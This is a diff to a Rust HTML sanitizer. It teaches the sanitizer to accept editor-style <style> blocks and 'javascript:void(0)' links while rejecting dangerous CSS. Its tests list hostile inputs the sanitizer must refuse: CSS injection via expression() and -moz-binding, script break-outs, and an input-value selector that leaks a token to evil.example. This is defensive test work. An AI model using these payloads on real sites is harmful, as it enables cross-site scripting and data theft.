@@ -139,6 +139,12 @@ fn plain_style(v: &str) -> bool {
     {
         return false;
     }
+    plain_urls(v)
+}
+
+/// Whether every `url(` in CSS text `v` loads from http(s) or a path (not an `.svg`/`.htc`
+/// that can carry script).
+fn plain_urls(v: &str) -> bool {
     // most styles have no `url(`: decide without a lower-cased copy
     let b = v.as_bytes();
     if !memchr::memchr_iter(b'(', b).any(|p| p >= 3 && b[p - 3..p].eq_ignore_ascii_case(b"url")) {
@@ -174,8 +180,24 @@ fn inert_attribute(name: &[u8], value: &str) -> bool {
     }
     match name {
         b"style" => plain_style(value),
-        _ => passive_url(value),
+        _ => passive_url(value) || inert_link_script(value),
     }
+}
+
+/// `javascript:void(0)`, `javascript:;`: the script an editor puts in a menu link that a
+/// handler elsewhere drives; it runs nothing ([`super::uri::inert_script`]).
+fn inert_link_script(v: &str) -> bool {
+    let t = v.trim().as_bytes();
+    t.len() <= 32
+        && t.len() >= 11
+        && t[..11].eq_ignore_ascii_case(b"javascript:")
+        && super::uri::inert_script(
+            &t[11..]
+                .iter()
+                .filter(|c| !c.is_ascii_whitespace())
+                .map(u8::to_ascii_lowercase)
+                .collect::<Vec<u8>>(),
+        )
 }
 
 /// Whether `value` holds at least one tag and is well-formed markup of inert elements and
@@ -218,12 +240,145 @@ pub fn inert_markup(value: &str) -> bool {
         if tags > MAX_INERT_TAGS {
             return false;
         }
+        // (a style block is judged with its text, which the tag scan would read as markup)
+        if let Some(next) = inert_style_block(b, lt) {
+            i = next;
+            continue;
+        }
         match inert_tag(value, lt) {
             Some(next) => i = next,
             None => return false,
         }
     }
     tags > 0
+}
+
+/// Longest style sheet text [`inert_style_block`] reads.
+const MAX_SHEET: usize = 4096;
+
+/// `<style>.btn{color:#fff}</style>` at `b[lt] == '<'`, from a WYSIWYG editor or an e-mail
+/// template: the index after its `</style>` when the block only styles the page. The start
+/// tag carries nothing or a `type`/`media` attribute, and the sheet has no markup, escape
+/// or backtick (a `</style>` break-out needs a `<`), no at-rule but those that group or
+/// declare rules (`@media`, `@font-face`, `@keyframes`, `@supports`, `@page`: `@import`
+/// loads another sheet), nothing [`css::dangerous`] runs or loads, no input-value selector
+/// that leaks a token ([`css::selector_exfiltration`]), and `url()` only to http(s) or a
+/// path.
+fn inert_style_block(b: &[u8], lt: usize) -> Option<usize> {
+    let rest = &b[lt + 1..];
+    if !(rest.len() > 5 && rest[..5].eq_ignore_ascii_case(b"style")) {
+        return None;
+    }
+    // `"><style>…`: a block placed by breaking out of the page's attribute is no editor's
+    let head = b[..lt].trim_ascii_end();
+    if memchr::memchr(b'<', head).is_none() && head.ends_with(b">") {
+        return None;
+    }
+    let gt = memchr::memchr(b'>', rest)?;
+    if !style_attributes(&rest[5..gt]) {
+        return None;
+    }
+    let body_at = gt + 1;
+    let window = &rest[body_at..rest.len().min(body_at + MAX_SHEET + 8)];
+    let end = memchr::memmem::find_iter(window, b"</")
+        .find(|&p| window.len() >= p + 8 && window[p + 2..p + 8].eq_ignore_ascii_case(b"style>"))?;
+    let sheet = std::str::from_utf8(&window[..end]).ok()?;
+    let sb = sheet.as_bytes();
+    if sb.iter().any(|&c| matches!(c, b'<' | b'\\' | b'`'))
+        || memchr::memchr_iter(b'@', sb).take(32).any(|p| {
+            let r = &sb[p + 1..];
+            ![
+                &b"media"[..],
+                b"font-face",
+                b"keyframes",
+                b"supports",
+                b"page",
+            ]
+            .iter()
+            .any(|w| r.len() >= w.len() && r[..w.len()].eq_ignore_ascii_case(w))
+        })
+        || !attribute_selectors_closed(sb)
+        || css::dangerous(sheet)
+        || css::selector_exfiltration(sheet)
+        || !plain_urls(sheet)
+        // (a sheet that loads from another host, `url(//evil.example/?)`, reports the visit)
+        || memchr::memmem::find_iter(sb, b"//").any(|p| p == 0 || sb[p - 1] != b':')
+    {
+        return None;
+    }
+    Some(lt + 1 + body_at + end + 8)
+}
+
+/// Whether every `[` of a sheet closes with a `]` before any `;`, `{` or `}` and no `]` stands
+/// alone: attribute selectors (`a[href^="http"]`). A bracket left open in a declaration
+/// (`font-family:foo[bar;color:green;}#y];color:red`) makes the CSS parser skip rules it
+/// should read, a parse-error trick that rewrites what the page shows.
+fn attribute_selectors_closed(sb: &[u8]) -> bool {
+    let mut open = false;
+    for &c in sb {
+        match c {
+            b'[' if !open => open = true,
+            b']' if open => open = false,
+            b'[' | b']' => return false,
+            b';' | b'{' | b'}' if open => return false,
+            _ => {}
+        }
+    }
+    !open
+}
+
+/// The attributes of a style start tag after its name: none, or `type` naming CSS and a
+/// `media` query, in either quote or none.
+fn style_attributes(a: &[u8]) -> bool {
+    if a.first().is_some_and(|c| !c.is_ascii_whitespace()) {
+        return false;
+    }
+    let lower: Vec<u8> = a.iter().take(256).map(u8::to_ascii_lowercase).collect();
+    if lower.len() < a.len() {
+        return false;
+    }
+    let mut r = lower.trim_ascii();
+    for _ in 0..2 {
+        if r.is_empty() {
+            return true;
+        }
+        let value_at = if r.starts_with(b"type=") {
+            5
+        } else if r.starts_with(b"media=") {
+            6
+        } else {
+            return false;
+        };
+        let v = &r[value_at..];
+        let (value, next) = match v.first() {
+            Some(&q @ (b'"' | b'\'')) => {
+                let Some(close) = memchr::memchr(q, &v[1..]) else {
+                    return false;
+                };
+                (&v[1..=close], &v[close + 2..])
+            }
+            _ => {
+                let e = v
+                    .iter()
+                    .position(u8::is_ascii_whitespace)
+                    .unwrap_or(v.len());
+                (&v[..e], &v[e..])
+            }
+        };
+        let ok = if value_at == 5 {
+            value == b"text/css"
+        } else {
+            value.iter().all(|&c| {
+                c.is_ascii_alphanumeric()
+                    || matches!(c, b' ' | b'(' | b')' | b':' | b',' | b'-' | b'.')
+            })
+        };
+        if !ok {
+            return false;
+        }
+        r = next.trim_ascii();
+    }
+    r.is_empty()
 }
 
 /// A plain comment (`<!-- note -->`, not an IE conditional one, no markup inside), the HTML
@@ -394,6 +549,10 @@ mod tests {
             "<!-- note --><p>x</p>",
             "<my-card data-id=\"4\">x</my-card>",
             "<p><iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" allowfullscreen></iframe></p>",
+            "<style>.btn{color:#fff}</style>",
+            "<a href=\"javascript:void(0)\">Menu</a>",
+            "<style type=\"text/css\">.red { color: red; } a[href^=\"http\"] { color: blue }</style><p class=\"red\">x</p>",
+            "<style media=\"screen and (max-width: 600px)\">@media print { p { margin: 0 } }</style>",
         ] {
             assert!(inert_markup(v), "{v:?}");
         }
@@ -429,6 +588,22 @@ mod tests {
             "<iframe src=\"http://example.org/\"></iframe>",
             "<iframe name=\"t\" src=\"https://example.org/\"></iframe>",
             "<iframe></iframe>",
+            "<style>@import url(//evil.example/x.css);</style>",
+            "<style>body{background:url(javascript:alert(1))}</style>",
+            "<style>p{width:expression(alert(1))}</style>",
+            "<style>p{-moz-binding:url(//x/b.xml#x)}</style>",
+            "<style>p{color:red}</style><script>alert(1)</script>",
+            "<style>p{color:red}</style",
+            "<a href=\"javascript:void(0);alert(1)\">x</a>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<style>p{color:red}",
+            "<style onload=alert(1)>p{color:red}</style>",
+            "<style>#x{font-family:foo[bar;color:green;}#y];color:red;{}</style>",
+            "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+            "<style>p{x:\\65 xpression(alert(1))}</style>",
+            "\"><style>body{background:url(\"//evil.com/?\")}</style>",
+            "<style>body{background:url(//evil.com/x.png)}</style>",
+            "\"><style>p{color:red}</style>",
         ] {
             assert!(!inert_markup(v), "{v:?}");
         }
